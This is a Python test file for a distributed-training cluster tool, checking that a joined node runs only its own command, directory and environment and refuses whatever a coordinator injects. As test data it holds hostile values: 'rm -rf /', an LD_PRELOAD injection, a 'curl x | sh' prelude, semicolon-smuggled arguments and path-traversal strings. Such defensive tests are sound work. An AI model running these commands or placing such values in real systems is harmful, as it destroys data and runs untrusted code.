"""What a joined node lets a coordinator say: its own command in every start, nothing of the coordinator's."""

import dataclasses

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from allranks.cluster import Cluster, Node
from allranks.gang.places import Setting, setup_message
from allranks.plan.environment import Place
from allranks.plan.pinned import NotPinned, Own, pinned_header, pinned_message
from allranks.plan.plan import make_plan, orders
from allranks.plan.ranks import Attempt
from allranks.spec import RunSpec

FACTS = {"interpreter": {"path": "/opt/py/bin/python"}}
HEADER = {"mode": "guard", "uid": "run-1-a", "node": "node_01", "mark": "run-1-a/node_01", "lease": 60.0,
          "grace": 1.0, "node_dir": "/etc", "checks": ["memory", "evil"], "tests": False}  # fmt: skip
SPEC = RunSpec(command=("train.py", "--lr", "1"), nodes=2, nproc=2, env={"MINE": "1"})


def own(spec: RunSpec = SPEC) -> Own:
    setting = Setting(run="", uid="", token="", workdir="/mine", run_outputs="")
    message = setup_message(spec, setting)
    kept = ("workdir", "command", "kind", "python", "environ", "prelude", "nproc", "output_dir", "node_dir")
    return Own(spec, {key: message[key] for key in kept}, ("memory",))


def start_of(spec: RunSpec, **place: object) -> dict:
    """What a coordinator with this spec sends to node 1 of 2."""
    cluster = Cluster((Node(0, "a", "a"), Node(1, "b", "b")), "join")
    plan = make_plan(spec, cluster, {})
    where = Place(
        node_dir="/tmp/allranks-0/run-1/node_01", workdir="/theirs", output_dir="/theirs/out", outputs_here=False,
        mark="run-1-abc/node_01", run="run-1",
    )  # fmt: skip
    where = dataclasses.replace(where, **place)
    return orders(spec, plan, plan.nodes[1], where, Attempt(0, "10.0.0.1", 29500), FACTS)


def test_the_start_is_made_from_this_nodes_own_arguments():
    evil = dataclasses.replace(SPEC, command=("rm", "-rf", "/"), env={"LD_PRELOAD": "/x.so"}, wrap="sudo")
    found = pinned_message(own(), start_of(evil), "/tmp/mine/node_01", FACTS)
    mine = start_of(SPEC)
    assert [r["argv"] for r in found["ranks"]] == [
        ["/opt/py/bin/python", "/tmp/mine/node_01/runner.py", "train.py", "--lr", "1"]
    ] * 2
    assert all(r["workdir"] == "/mine" and r["env"]["MINE"] == "1" for r in found["ranks"])
    assert "LD_PRELOAD" not in str(found) and "rm" not in str(found["ranks"][0]["argv"])
    contract = ("RANK", "LOCAL_RANK", "WORLD_SIZE", "NODE_RANK", "MASTER_ADDR", "MASTER_PORT", "GROUP_WORLD_SIZE")
    for theirs, ours in zip(mine["ranks"], found["ranks"], strict=True):
        assert {k: theirs["env"][k] for k in contract} == {k: ours["env"][k] for k in contract}
    assert found["attempt"] == 0 and found["type"] == "start"


def test_the_look_keeps_this_nodes_command_and_directory():
    theirs = {"type": "setup", "workdir": "/theirs", "command": ["sh"], "prelude": "curl x | sh", "uid": "u",
              "checks": ["memory", "evil"], "seconds": 30.0, "environ": {"LD_PRELOAD": "x"}}  # fmt: skip
    found = pinned_message(own(), theirs, "", {})
    assert found["prelude"] is None and found["workdir"] == "/mine" and found["command"] == list(SPEC.command)
    assert found["checks"] == ["memory"] and found["environ"] == {"MINE": "1"} and found["uid"] == "u"


@pytest.mark.parametrize("kind", ["ship", "exec", "", "START"])
def test_what_is_not_known_is_refused(kind):
    with pytest.raises(NotPinned):
        pinned_message(own(), {"type": kind}, "/d", FACTS)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("interfaces", {"LD_PRELOAD": "x"}), ("interfaces", {"NCCL_SOCKET_IFNAME": "a b;c"}), ("interfaces", 3),
        ("master_addr", "-x;y"), ("master_port", 70000), ("world_size", -1), ("nproc", 10**6), ("run", "../x"),
        ("mark", "a"), ("attempt", True), ("tests", [1]), ("index", None),
    ],
)  # fmt: skip
def test_terms_out_of_bounds_are_refused(name, value):
    message = start_of(SPEC)
    message["terms"][name] = value
    with pytest.raises(NotPinned):
        pinned_message(own(), message, "/d", FACTS)


def test_a_node_that_was_started_to_be_looked_at_starts_no_program():
    with pytest.raises(NotPinned, match="looked at"):
        pinned_message(own(RunSpec(nodes=2)), start_of(SPEC), "/d", FACTS)


def test_the_header_keeps_this_nodes_directory():
    spec = dataclasses.replace(SPEC, node_dir="/scratch")
    assert pinned_header(own(spec), HEADER) == {
        **HEADER,
        "node_dir": "/scratch",
        "checks": ["memory"],
        "audit": False,
    }
    for name, value in (("mode", "sweep"), ("mode", "dial"), ("uid", "../../etc"), ("node", "a/b"), ("lease", 0),
                        ("lease", "60"), ("mark", "x"), ("grace", -1)):  # fmt: skip
        with pytest.raises(NotPinned):
            pinned_header(own(spec), {**HEADER, name: value})


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


@settings(max_examples=300)
@example({"tests": 1.0})
@given(st.dictionaries(st.sampled_from(sorted(start_of(SPEC)["terms"])), JSON))
def test_whatever_the_terms_say_only_the_own_command_runs(changed):
    message = start_of(SPEC)
    message["terms"].update(changed)
    try:
        found = pinned_message(own(), message, "/d", FACTS)
    except NotPinned:
        return
    for rank in found["ranks"]:
        words = ["/opt/py/bin/python", "/d/runner.py", "train.py", "--lr", "1"]
        assert rank["argv"] == words or changed.get("tests")
        assert rank["workdir"] == "/mine"


@settings(max_examples=200)
@example({"checks": 1.0})
@given(st.dictionaries(st.sampled_from(["checks", "tests", "lease", "mode", "node"]), JSON))
def test_whatever_a_header_or_a_setup_says_only_checks_that_this_node_has_run(changed):
    for make in (pinned_header, lambda own, found: pinned_message(own, {**found, "type": "setup"}, "/d", FACTS)):
        try:
            found = make(own(), {**HEADER, **changed})
        except NotPinned:
            continue
        assert set(found["checks"]) <= {"memory"}
